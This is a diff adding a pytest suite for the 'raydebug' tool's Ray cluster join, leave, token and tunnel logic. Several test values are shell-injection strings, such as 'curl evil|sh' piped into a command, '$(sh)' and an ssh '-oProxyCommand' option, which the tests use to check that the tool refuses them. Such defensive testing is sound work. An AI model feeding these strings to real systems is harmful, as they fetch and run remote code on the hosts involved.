@@ -1,0 +1,645 @@
+"""What goes wrong while a cluster is joined or left: beside a stand-in for Ray's dashboard, with real processes."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import gc
+import json
+import os
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import psutil
+import pytest
+
+from gateway_under_test import TOKEN, GatewayUnderTest
+from joinable_dashboard import HEAD, NODE, JoinableDashboard
+from raydebug.check.cache import Cache
+from raydebug.check.target import target_of
+from raydebug.cluster import joined, node_jobs, on_nodes, reach, state, tunnel
+from raydebug.cluster.runner import NodeRunner, run_on_each
+from raydebug.cluster.state import Cluster, read_record
+from raydebug.cluster.up import UpOptions
+from raydebug.errors import RaydebugError
+from raydebug.protocol.variables import TOKEN_PATH
+
+needs_root = pytest.mark.skipif(os.getuid() != 0, reason="only root can start a program of another user")
+
+
+@pytest.fixture(autouse=True)
+def _own_state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    monkeypatch.setenv("HOME", str(tmp_path))
+    for name in ("RAY_AUTH_TOKEN", "RAY_AUTH_TOKEN_PATH", TOKEN_PATH):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.setattr(node_jobs, "MONITORED_EVERY_S", 0.01)
+
+
+@pytest.fixture
+def dashboard() -> Iterator[JoinableDashboard]:
+    """A cluster without a token."""
+    with JoinableDashboard() as one:
+        yield one
+
+
+def join(dashboard: JoinableDashboard, through: str | None = None, name: str = "x") -> Cluster:
+    """Join, and return the record."""
+    joined.join(UpOptions(name=name), joined.asked_at(dashboard.url, name), through, on_phase=lambda _: None)
+    found = read_record(name)
+    assert found is not None
+    return found
+
+
+def refused(dashboard: JoinableDashboard, code: str, through: str | None = None) -> RaydebugError:
+    """Join in vain, and return the error."""
+    with pytest.raises(RaydebugError) as raised:
+        join(dashboard, through)
+    assert raised.value.code == code, raised.value
+    return raised.value
+
+
+def test_join_and_leave(dashboard):
+    """A cluster that was joined is left without a job, a record or a token."""
+    cluster = join(dashboard)
+    assert (cluster.token, cluster.joined["nodes"], cluster.joined["dial"]) == (
+        dashboard.agreed,
+        "n1",
+        "127.0.0.1:5679",
+    )
+    assert joined.leave(cluster) == []
+    assert (dashboard.jobs, read_record("x"), cluster.token_file.exists()) == ({}, None, False)
+
+
+# The answer in a job's log
+
+
+ANSWER = {
+    "nodes": [NODE], "public": "ab", "head": "10.0.0.1", "gcs": "10.0.0.1:6379", "logs": "/tmp/ray", "ports": [1, 2],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("changed", "says"),
+    [
+        ({"head": "x'; curl evil|sh; '"}, "the head has no address"),
+        ({"head": "-oProxyCommand"}, "the head has no address"),
+        ({"head": 7}, "BadRecord 'head' of the answer is not a text"),
+        ({"public": "1"}, "its public value is none"),
+        ({"public": f"{on_nodes.PRIME - 1:x}"}, "its public value is none"),
+        ({"public": "zz"}, "ValueError invalid literal"),
+        ({"ports": [5678]}, "its ports are none"),
+        ({"ports": [0, 70000]}, "its ports are none"),
+        ({"ports": ["5678; sh", 2]}, "BadRecord 'ports' of the answer"),
+        ({"gcs": None}, "not all facts of the head"),
+        ({"nodes": []}, "not all facts of the head"),
+        ({"nodes": 3}, "TypeError"),
+        ({"nodes": [{**NODE, "ip": "$(sh)"}]}, "a node without an address"),
+        ({"nodes": [{**NODE, "gpus": "8"}]}, "BadRecord 'gpus' of a node"),
+        ({"nodes": [{**NODE, "python": None}]}, "not all facts of 127.0.0.1"),
+    ],
+)
+def test_an_answer_that_lies(tmp_path, changed, says):
+    """An answer that cannot be one is refused with what is wrong."""
+    cluster = Cluster("x", "1", "joined", tmp_path, tmp_path, "python", {}, 1, 0, "breakpoint", "core", 0.0,
+                      joined={"dashboard": "http://head:8265"})  # fmt: skip
+    with pytest.raises(RaydebugError) as raised:
+        node_jobs._read(cluster, "job", json.dumps({**ANSWER, **changed}))
+    assert (raised.value.code, says in raised.value.cause) == ("joined.bad-answer", True), raised.value
+    assert node_jobs._read(cluster, "job", json.dumps(ANSWER))["ports"] == [1, 2]
+
+
+@pytest.mark.parametrize("text", ["{", "[" * 100_000, "3", json.dumps({**ANSWER, "ports": "x"})])
+def test_a_gateway_whose_answer_lies(dashboard, text):
+    """Where the answer cannot be read, the gateway's job and the token's files do not stay."""
+    lie = f"{on_nodes.MARK}{text}\n"
+    dashboard.answer = lambda request: lie if request["do"] == "join" else dashboard.usual(request)
+    refused(dashboard, "joined.bad-answer")
+    assert (dashboard.jobs, read_record("x")) == ({}, None)
+    assert [one["do"] for one in dashboard.asked] == ["join", "leave"]
+
+
+def test_half_a_line(dashboard):
+    """A line that is being written is read once it is whole; what was printed before it does not matter."""
+    cluster = join(dashboard)
+    whole = f"warning{on_nodes.MARK}\n{on_nodes.MARK}{json.dumps({'nodes': [NODE]})}"
+    job = {"submission_id": "raydebug-nodes-1", "status": "RUNNING", "log": whole}
+    dashboard.jobs["raydebug-nodes-1"] = job
+    asked = len(dashboard.seen)
+
+    def finish() -> None:
+        while len(dashboard.seen) < asked + 6:
+            time.sleep(0.01)
+        job["log"] = f"{whole}\n"
+
+    thread = threading.Thread(target=finish)
+    thread.start()
+    assert node_jobs.wait_for_answer(cluster, "raydebug-nodes-1")["nodes"][0]["ip"] == "127.0.0.1"
+    thread.join()
+    assert len(dashboard.seen) >= asked + 6
+
+
+def test_a_public_value_that_nobody_asked_for(monkeypatch):
+    """Where Ray has a token, nothing in an answer replaces it."""
+    monkeypatch.setenv("RAY_AUTH_TOKEN", TOKEN)
+    with JoinableDashboard(TOKEN) as dashboard:
+        dashboard.answer = lambda request: {**dashboard.usual(request), "public": "abcdef"}
+        assert join(dashboard).token == TOKEN
+
+
+def test_a_log_without_end(dashboard, monkeypatch):
+    """A log that somebody has filled is not taken into memory."""
+    cluster = join(dashboard)
+    monkeypatch.setattr(node_jobs, "LOG_BYTES", 1 << 20)
+    dashboard.jobs["raydebug-nodes-1"] = {"status": "RUNNING", "log": "x" * (2 << 20)}
+    with pytest.raises(RaydebugError, match="is too long"):
+        node_jobs.wait_for_answer(cluster, "raydebug-nodes-1")
+
+
+# Whose the token is
+
+
+def test_a_token_that_is_not_asked_for(dashboard, monkeypatch):
+    """A cluster that asks for no token does not get the one that this user has for another."""
+    monkeypatch.setenv("RAY_AUTH_TOKEN", TOKEN)
+    cluster = join(dashboard)
+    assert joined.leave(cluster) == []
+    assert dashboard.headers == []
+
+
+@needs_root
+def test_another_user_on_the_port_of_a_dashboard(monkeypatch):
+    """When another user has taken the dashboard's port meanwhile, joining again sends him no token."""
+    monkeypatch.setenv("RAY_AUTH_TOKEN", TOKEN)
+    with JoinableDashboard(TOKEN) as dashboard:
+        cluster = join(dashboard)
+    port = int(cluster.dashboard.rpartition(":")[2])
+    takes = "import socket, sys\ns = socket.create_server(('127.0.0.1', int(sys.argv[1])))\nprint(flush=True)\n"
+    takes += "while True: print(s.accept()[0].recv(9999), flush=True)\n"
+    argv = ["/usr/bin/env", "python3", "-c", takes, str(port)]
+    with subprocess.Popen(argv, user=65534, cwd="/", stdout=subprocess.PIPE, text=True) as other:
+        assert other.stdout is not None
+        other.stdout.readline()
+        try:
+            cause = refused(dashboard, "cluster.port-of-another").cause
+            assert "uid 65534; the token was not sent" in cause
+            gc.collect()  # the error's frames hold the connection
+            assert other.stdout.readline() == "b''\n"
+        finally:
+            other.kill()
+
+
+def test_the_dashboard_of_this_machine(tmp_path):
+    """`auto` finds a dashboard by its command line, and only one of this user or of root."""
+    program = tmp_path / "ray" / "dashboard" / "dashboard.py"
+    program.parent.mkdir(parents=True)
+    program.write_text("input()")
+    tmp_path.chmod(0o755)
+
+    def found(*options: str, **more: Any) -> str:
+        argv = ["/usr/bin/env", "python3", str(program), *options]
+        with subprocess.Popen(argv, stdin=subprocess.PIPE, cwd="/", **more) as started:
+            try:
+                while "dashboard.py" not in " ".join(psutil.Process(started.pid).cmdline()[1:2]):
+                    time.sleep(0.01)
+                return joined.dashboard_here()
+            except RaydebugError as error:  # there may be a real one beside it
+                return error.cause
+            finally:
+                started.kill()
+
+    assert "http://127.0.0.1:9999" in found("--host=0.0.0.0", "--port=9999")
+    assert "http://[::1]:9999" in found("--host=::1", "--port=9999")
+    assert "9999" not in found("--host=127.0.0.1", "--grpc=9999")
+    if os.getuid() == 0:
+        assert "9999" not in found("--host=127.0.0.1", "--port=9999", user=65534)
+
+
+def test_a_token_that_was_lost_here(dashboard):
+    """Where this machine has lost the token's file, joining again agrees on a new token, with a new gateway."""
+    first = join(dashboard)
+    first.token_file.unlink()
+    with pytest.raises(RaydebugError) as raised:
+        assert first.token
+    assert raised.value.fix == f"`raydebug up --join {dashboard.url} --name x` starts it again"
+    second = join(dashboard)
+    assert (second.token, second.id) == (dashboard.agreed, first.id)
+    assert dashboard.running() == [second.joined["job"]]
+
+
+# What is left behind
+
+
+def interrupted(dashboard: JoinableDashboard, *arguments: str) -> subprocess.CompletedProcess[str]:
+    """Run `raydebug up --join`, and press Ctrl-C twice once its job is submitted."""
+    argv = [sys.executable, "-m", "raydebug", "up", "--join", dashboard.url, "--name", "x", *arguments]
+    with subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as started:
+        while not dashboard.asked and started.poll() is None:
+            time.sleep(0.01)
+        started.send_signal(signal.SIGINT)
+        while len(dashboard.asked) < 2 and started.poll() is None:
+            time.sleep(0.01)
+        started.send_signal(signal.SIGINT)
+        out, err = started.communicate(timeout=60)
+    return subprocess.CompletedProcess(argv, started.returncode, out, err)
+
+
+def test_ctrl_c_while_joining(dashboard):
+    """Ctrl-C while the nodes are asked ends the gateway's job and has the token's files removed; a second one waits."""
+    dashboard.answer = lambda request: None if request["do"] == "join" else dashboard.usual(request)
+    done = interrupted(dashboard)
+    assert done.returncode == 130, done.stderr
+    assert "leaving it as it was" in done.stderr
+    assert [one["do"] for one in dashboard.asked] == ["join", "leave"]
+    assert (dashboard.jobs, read_record("x")) == ({}, None)
+
+
+def test_a_job_whose_submission_was_not_answered(dashboard):
+    """A job that Ray has taken, though it answers with an error, does not stay."""
+    dashboard.refuse = lambda what: 500 if what == "POST /api/jobs/" and len(dashboard.asked) == 1 else None
+    refused(dashboard, "ray.refused")
+    assert (dashboard.jobs, read_record("x")) == ({}, None)
+
+
+def test_a_submission_that_is_refused(dashboard, monkeypatch):
+    """Where Ray takes no job, nothing is asked of the nodes, and no record and no token stay."""
+    monkeypatch.setattr(joined, "COMES_WITHIN_S", 0.1)
+    dashboard.refuse = lambda what: 500 if what == "POST /api/jobs/" else None
+    dashboard._submit = lambda _: (200, {})
+    refused(dashboard, "ray.refused")
+    assert dashboard.seen.count("POST /api/jobs/") == 1
+    assert (read_record("x"), (state.clusters_dir() / "x" / "token").exists()) == (None, False)
+
+
+def test_what_cannot_be_undone(dashboard, monkeypatch, capsys):
+    """Where the network goes while a cluster is joined, the record stays, and `down` ends what was started."""
+    monkeypatch.setattr(node_jobs, "SILENT_S", 0.1)
+    dashboard.refuse = lambda _: 503 if dashboard.asked else None
+    error = refused(dashboard, "ray.refused")
+    assert "503" in error.what
+    assert "note: not all could be undone" in capsys.readouterr().err
+    dashboard.refuse = lambda _: None
+    left = read_record("x")
+    assert left is not None
+    assert dashboard.running() == [left.joined["job"]]
+    assert joined.leave(left) == []
+    assert (dashboard.jobs, read_record("x")) == ({}, None)
+
+
+def test_down_on_a_busy_head(dashboard):
+    """A head that answers 500 for a moment does not make `down` forget a gateway that runs."""
+    cluster = join(dashboard)
+    stops = 0
+
+    def refuse(what: str) -> int | None:
+        nonlocal stops
+        stops += what.endswith("/stop")
+        if what.endswith("/stop") and stops < 3:
+            for job in dashboard.jobs.values():
+                job["status"] = "RUNNING" if "gateway" in job["submission_id"] else job["status"]
+            return 500
+        return None
+
+    dashboard.refuse = refuse
+    assert joined.leave(cluster) == []
+    assert stops == 3
+    dashboard.jobs["raydebug-gateway-1"] = {"submission_id": "raydebug-gateway-1", "status": "RUNNING"}
+    dashboard.refuse = lambda what: 500 if what.endswith("/stop") or "GET /api/jobs/r" in what else None
+    assert not node_jobs.stop_job(cluster, "raydebug-gateway-1", limit_s=0.3)
+
+
+def test_joining_again_on_a_busy_head(dashboard):
+    """An answer that says nothing of the gateway's job starts no second gateway; the record stays as it was."""
+    cluster = join(dashboard)
+    dashboard.refuse = lambda what: 503 if cluster.joined["job"] in what else None
+    refused(dashboard, "ray.refused")
+    assert len(dashboard.asked) == 1
+    assert read_record("x") == cluster
+
+
+def test_a_gateway_that_is_not_started_again(dashboard):
+    """Where a second join fails, the record is the one before, with the job whose log says why the gateway ended."""
+    cluster = join(dashboard)
+    dashboard.jobs[cluster.joined["job"]]["status"] = "FAILED"
+    dashboard.answer = lambda _: "Traceback\nNo module named raydebug\n"
+    refused(dashboard, "joined.no-raydebug")
+    assert read_record("x") == cluster
+    assert dashboard.running() == []
+
+
+def test_a_ray_that_now_asks_for_a_token(dashboard, monkeypatch):
+    """A cluster that was joined without a token, and asks for one after an upgrade, is joined again, and left."""
+    join(dashboard)
+    dashboard.jobs.clear()
+    dashboard.token = TOKEN
+    error = refused(dashboard, "auth.wrong-token")
+    assert "RAY_AUTH_TOKEN" in error.fix
+    monkeypatch.setenv("RAY_AUTH_TOKEN", TOKEN)
+    cluster = join(dashboard)
+    assert (cluster.token, cluster.joined["auth"]) == (TOKEN, "token")
+    monkeypatch.delenv("RAY_AUTH_TOKEN")
+    dashboard.token = f"1{TOKEN}"
+    with pytest.raises(RaydebugError) as raised:
+        joined.why_gateway_down(cluster)
+    again = f"`raydebug up --join {dashboard.url} --name x` starts it again"
+    assert raised.value.fix == f"{again}, with the token that Ray has now"
+    dashboard.token = TOKEN
+    assert joined.leave(cluster) == []
+
+
+def test_leaving_nodes_that_lost_raydebug(dashboard):
+    """Where raydebug is gone from the nodes, `down` stops the gateway and says what stays; Ray's new Python is used."""
+    cluster = join(dashboard)
+    dashboard.python, usual = "/new/python", dashboard.usual
+    dashboard.answer = lambda _: "No module named raydebug\n"
+    (left,) = joined.leave(cluster)
+    assert left == f"{cluster.joined['folder']} on the nodes: /new/python of the head says: No module named raydebug"
+    assert dashboard.jobs == {}
+    assert read_record("x") is not None
+    dashboard.answer = usual
+    assert joined.leave(cluster) == []
+
+
+@needs_root
+def test_a_folder_of_another_user(tmp_path):
+    """A folder that another user has made where the token's would be does not keep `down` from its end."""
+    folder = tmp_path / "raydebug-1"
+    folder.mkdir()
+    os.chown(folder, 65534, 65534)
+    assert on_nodes.leave_node(str(folder)) == {}
+    assert folder.is_dir()
+
+
+def test_jobs_of_two_verbs(dashboard):
+    """Jobs that have ended are removed but the last and the gateway's, whoever removes them first."""
+    cluster = join(dashboard)
+    dashboard.jobs[cluster.joined["job"]]["status"] = "FAILED"
+    dashboard.refuse = lambda what: 404 if what.startswith("DELETE") else None
+    runner = NodeRunner(cluster, "127.0.0.1")
+    for _ in range(3):
+        assert runner.run_python(["-c", ""], Path("/")) == "['-c', '']"
+    assert [name for name in dashboard.jobs if "gateway" in name] == [cluster.joined["job"]]
+    assert len([name for name in dashboard.jobs if "nodes" in name]) == 1
+
+
+def test_nodes_that_lack_something(dashboard):
+    """On a second join a node without raydebug is named, and the gateway starts; `run` and `ps` name it."""
+    cluster = join(dashboard)
+    dashboard.jobs[cluster.joined["job"]]["status"] = "STOPPED"
+    bad = [{"node_id": f"n{n}", "ip": f"10.0.0.{n}", "gpus": 8, "problem": "it has no raydebug"} for n in range(2, 7)]
+    dashboard.answer = lambda request: {**dashboard.usual(request), "nodes": [NODE, *bad]}
+    asked = joined.asked_at(dashboard.url, "x")
+    _, nodes, runs = joined.join(UpOptions(name="x"), asked, None, on_phase=lambda _: None)
+    assert not runs
+    assert node_jobs.problems_of(nodes) == ["5 nodes (10.0.0.2, 10.0.0.3, 10.0.0.4, ...): it has no raydebug"]
+    again = read_record("x")
+    assert again is not None
+    assert again.joined["nodes"] == "n1"
+    assert state.without_token(again, {"n1": "127.0.0.1"}) == ""
+    assert state.without_token(again, {"n1": "127.0.0.1", "n2": "10.0.0.2"}) == (
+        f"no breakpoints on 10.0.0.2: `up --join` has not prepared it; `raydebug up --join {dashboard.url} --name x`"
+        " prepares all nodes"
+    )
+
+
+def test_no_head_that_is_alive(dashboard):
+    """A head that was replaced does not count; without one the error says so."""
+    dead = {**HEAD, "node_id": "n0", "node_ip": "10.9.9.9", "state": "DEAD"}
+    dashboard.nodes = [dead, HEAD]
+    assert join(dashboard).joined["head"] == "127.0.0.1"
+    dashboard.nodes = [dead]
+    refused(dashboard, "joined.no-head")
+
+
+# Programs on the nodes
+
+
+def test_one_job_for_all_nodes(dashboard):
+    """What is asked of several nodes is one job; each answers for itself, and a node that is gone is named."""
+    cluster = join(dashboard)
+    asked = len(dashboard.asked)
+
+    def answer(request: dict[str, Any]) -> dict[str, Any]:
+        ips = list(request["argv"])
+        return {"nodes": [{"ip": ips[0], "code": 0, "output": "a"}, {"ip": ips[1], "code": 127, "output": "no folder"}]}
+
+    dashboard.answer = answer
+    programs = {ip: (NodeRunner(cluster, ip), ["-c", ip]) for ip in ("10.0.0.1", "10.0.0.2", "10.0.0.3")}
+    found = run_on_each(programs, Path("/w"), timeout_s=5)
+    assert found["10.0.0.1"] == "a"
+    failed, gone = found["10.0.0.2"], found["10.0.0.3"]
+    assert isinstance(failed, RaydebugError)
+    assert failed.fix == "the nodes need the same folder as this machine: run from one that is shared"
+    assert isinstance(gone, RaydebugError)
+    assert gone.cause.endswith("no node 10.0.0.3 is alive")
+    assert [one["argv"] for one in dashboard.asked[asked:]] == [{ip: ["-c", ip] for ip in programs}]
+
+
+def test_check_on_nodes(dashboard):
+    """`check` keeps nothing of what it read on nodes, and an environment needs no folder of this machine there."""
+    target = target_of(None, Path("/home/alice/project"), join(dashboard), None)
+    assert (target.folder, type(target.runner)) == (Path("/"), NodeRunner)
+    cache = Cache()
+    cache.store(target, "data", 1.0, [], ["/data/train.parquet"])
+    assert cache.load(target, "data") is None
+    assert not list((state.state_dir() / "checks").glob("*"))
+
+
+def test_a_folder_that_cannot_be_entered(tmp_path):
+    """A file where the folder should be is said as what it is."""
+    (tmp_path / "file").write_text("")
+    ran = on_nodes.run_here(["-c", ""], str(tmp_path / "file"), 30.0)
+    assert ran == {"code": 127, "output": f"the node has no folder {tmp_path / 'file'}"}
+
+
+# The way to the head
+
+
+@pytest.mark.parametrize(
+    ("through", "command"),
+    [
+        ("ssh head", "ssh -W 127.0.0.1:5678 head"),
+        ("ssh -p 22 me@head -v", "ssh -W 127.0.0.1:5678 -p 22 me@head -v"),
+        ("/usr/bin/ssh -J 'jump host' head", "/usr/bin/ssh -W 127.0.0.1:5678 -J|jump host|head"),
+        (
+            "ssh head docker exec -i ray",
+            "ssh head docker exec -i ray /opt/python -P -m raydebug.cluster.reach there 5678",
+        ),
+        ("kubectl exec -i p --", "kubectl exec -i p -- /opt/python -P -m raydebug.cluster.reach there 5678"),
+    ],
+)
+def test_the_command_of_a_connection(through, command):
+    """ssh leads to the gateway's port itself; any other command runs the cluster's Python there."""
+    words = command.replace("-J|jump host|head", "-J jump\0host head").split(" ")
+    assert tunnel.command_of(through, "/opt/python", 5678) == [word.replace("\0", " ") for word in words]
+
+
+@pytest.mark.parametrize("through", ["ssh 'head", "ssh", "ssh -p", "ssh --host head"])
+def test_a_command_that_is_none(dashboard, through):
+    """A command that cannot be read is refused before anything is started."""
+    refused(dashboard, "joined.options", through)
+    assert dashboard.asked == []
+
+
+@pytest.mark.parametrize("python", ["curl evil|sh; python", "/opt/py thon", "/x;sh", "$(sh)", "/x\npython"])
+def test_a_python_that_a_shell_would_read(dashboard, python):
+    """What the dashboard calls the cluster's Python is run there only if it is a plain path; ssh needs none."""
+    dashboard.python = python
+    refused(dashboard, "joined.python", "kubectl exec -i p --")
+    assert dashboard.asked == []
+    assert tunnel.command_of("ssh head", python, 1) == ["ssh", "-W", "127.0.0.1:1", "head"]
+
+
+def test_a_way_that_changes(dashboard):
+    """Another command replaces the one before; an empty one ends it; `down` ends it with all that it has started."""
+    first = join(dashboard, "env A=b")
+    assert join(dashboard).supervisor_pid == first.supervisor_pid
+    second = join(dashboard, "env A=c")
+    assert not psutil.pid_exists(first.supervisor_pid)
+    assert "A=c" in psutil.Process(second.supervisor_pid).cmdline()
+    third = join(dashboard, "")
+    assert not psutil.pid_exists(second.supervisor_pid)
+    assert (third.joined["gateway"], third.joined["through"]) == ("127.0.0.1:5678", "")
+    last = join(dashboard, "env A=b")
+    assert joined.leave(last) == []
+    assert not psutil.pid_exists(last.supervisor_pid)
+
+
+@contextlib.contextmanager
+def port_through(*argv: str) -> Iterator[int]:
+    """Open a port whose connections run a command."""
+    with socket.create_server(("127.0.0.1", 0)) as probe:
+        port = probe.getsockname()[1]
+    here = subprocess.Popen(
+        [sys.executable, "-P", "-m", "raydebug.cluster.reach", "here", str(port), *argv], stderr=subprocess.DEVNULL
+    )
+    try:
+        while True:
+            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port)):
+                break
+            time.sleep(0.05)
+        yield port
+    finally:
+        here.kill()
+        here.wait()
+
+
+@needs_root
+def test_a_port_of_this_user(tmp_path):
+    """A connection of another user of the machine runs nothing, and gets nothing."""
+    runs = tmp_path / "runs"
+    reads = "import socket, sys; print(socket.create_connection(('127.0.0.1', int(sys.argv[1]))).recv(9))"
+    with port_through("sh", "-c", f"echo >> {runs}; echo yes") as port:
+        argv = ["/usr/bin/env", "python3", "-c", reads, str(port)]
+        ours = subprocess.run(argv, capture_output=True, text=True, check=True, timeout=60)
+        before = runs.read_text()
+        other = subprocess.run(argv, capture_output=True, text=True, check=True, timeout=60, user=65534, cwd="/")
+        assert (ours.stdout, other.stdout) == ("b'yes\\n'\n", "b''\n")
+        assert runs.read_text() == before
+
+
+def test_a_command_that_is_missing():
+    """A connection ends at once where its command cannot be started."""
+    with port_through("/nowhere/ssh") as port, socket.create_connection(("127.0.0.1", port), timeout=60) as one:
+        assert one.recv(9) == b""
+
+
+def test_a_client_that_left(monkeypatch):
+    """A command that does not notice the client's end, as over a network that was cut, is ended."""
+    monkeypatch.setattr(reach, "CLIENT_LEFT_S", 0.1)
+
+    async def check() -> None:
+        with socket.create_server(("127.0.0.1", 0)) as probe:
+            port = probe.getsockname()[1]
+        serving = asyncio.create_task(reach.here(port, ["sleep", "3600"]))
+        while True:
+            with contextlib.suppress(OSError):
+                _, writer = await asyncio.open_connection("127.0.0.1", port)
+                break
+            await asyncio.sleep(0.01)
+        while not (started := [one for one in psutil.Process().children() if one.cmdline() == ["sleep", "3600"]]):
+            await asyncio.sleep(0.01)
+        writer.close()
+        while started[0].is_running():
+            await asyncio.sleep(0.01)
+        serving.cancel()
+
+    asyncio.run(asyncio.wait_for(check(), 60))
+
+
+# The command line
+
+
+def raydebug(*arguments: str, **environ: str) -> subprocess.CompletedProcess[str]:
+    """Run the command line."""
+    return subprocess.run(
+        [sys.executable, "-m", "raydebug", *arguments], capture_output=True, text=True, check=False, timeout=60,
+        env={**os.environ, **environ},
+    )  # fmt: skip
+
+
+def test_up_is_the_join_again(gateway: GatewayUnderTest):
+    """`raydebug up` on the record of a joined cluster joins it again: errors of every verb may name it."""
+    with JoinableDashboard(TOKEN, (gateway.gateway_port, gateway.dial_port)) as dashboard:
+        done = raydebug("up", "--join", dashboard.url, "--name", "x", RAY_AUTH_TOKEN=TOKEN)
+        assert done.returncode == 0, done.stderr
+        cluster = read_record("x")
+        assert cluster is not None
+        dashboard.jobs[cluster.joined["job"]]["status"] = "FAILED"
+        done = raydebug("up", "--name", "x", RAY_AUTH_TOKEN=TOKEN)
+        assert done.returncode == 0, done.stderr
+        assert len(dashboard.running()) == 1
+        done = raydebug("up", "--name", "x", "--cluster", "local", RAY_AUTH_TOKEN=TOKEN)
+        assert done.stderr.startswith("error: --cluster is not for --join\n")
+        dashboard.nodes = [HEAD, {**HEAD, "node_id": "n2", "node_ip": "10.0.0.7", "is_head_node": False}]
+        assert "note: no breakpoints on 10.0.0.7: " in raydebug("ps", "--name", "x").stderr
+
+
+def test_why_a_way_fails(dashboard, tmp_path):
+    """What ssh says is in the error, with the command to correct it and the one to leave."""
+    ssh = tmp_path / "ssh"
+    ssh.write_text('#!/bin/sh\necho "alice@head: Permission denied (publickey). $*" >&2\nexit 255\n')
+    ssh.chmod(0o755)
+    done = raydebug("up", "--join", dashboard.url, "--name", "x", "--through", f"{ssh} head")
+    what, cause, fix = done.stderr.splitlines()[-3:]
+    assert what == "error: the gateway runs on the head, 127.0.0.1, and cannot be reached from here"
+    assert f"{ssh} head said: " in cause
+    assert "Permission denied (publickey). -W 127.0.0.1:5678 head" in cause
+    assert f"--through COMMAND` with one that works; all that it says: {tmp_path}" in fix
+    assert fix.endswith("`raydebug down --name x` leaves the cluster")
+    assert raydebug("down", "--name", "x").returncode == 0
+    assert (dashboard.jobs, read_record("x")) == ({}, None)
+
+
+@pytest.mark.parametrize(
+    ("address", "what", "cause"),
+    [
+        ("http://me:secret@head:8265", "'http://...@head:8265' is not the address", "it has a user and a password;"),
+        ("http://head:8265/ray/", "'http://head:8265/ray/' is not the address", "/ray/ follows the port: a dashboard"),
+        ("https://head:8265", "https://head:8265 cannot be joined", "Ray's dashboard itself speaks http;"),
+        ("http://head:port", "'http://head:port' is not the address", "Port could not be cast"),
+    ],
+)
+def test_addresses(address, what, cause):
+    """An address that cannot be joined is refused with the reason, without its password."""
+    done = raydebug("up", "--join", address)
+    assert done.returncode == 2
+    lines = done.stderr.splitlines()
+    assert lines[0].startswith(f"error: {what}"), done.stderr
+    assert lines[1].startswith(f"cause: {cause}")
+    assert "secret" not in done.stderr
+
+
+def test_the_name_of_the_cluster_around_us(dashboard):
+    """In a container of a cluster's network the default name is that cluster's."""
+    around = {"RAYDEBUG_DASHBOARD": "http://head:8265", "RAYDEBUG_GATEWAY_CLIENTS": "g:1", "RAYDEBUG_TOKEN_PATH": "/t"}
+    done = raydebug("up", "--join", dashboard.url, **around)
+    assert done.stderr.startswith("error: the name 'default' is that of the cluster around this process\n")
+    assert dashboard.seen == []
